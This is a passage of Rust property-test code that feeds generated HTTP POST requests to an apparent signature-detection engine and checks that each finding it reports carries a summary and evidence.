            tls_terminated_servers: vec!["10.1.0.0/24".into()],
            ..SignatureConfig::default()
        });
        let call = post(&uri, &body).header("User-Agent", &ua).respond(status, &body).to([10, 9, 0, 5]);
        for f in fx.run(&call, &[]) {
            proptest::prop_assert!(!f.summary.is_empty());
            proptest::prop_assert!(!f.evidence.is_empty());
        }
    }
}
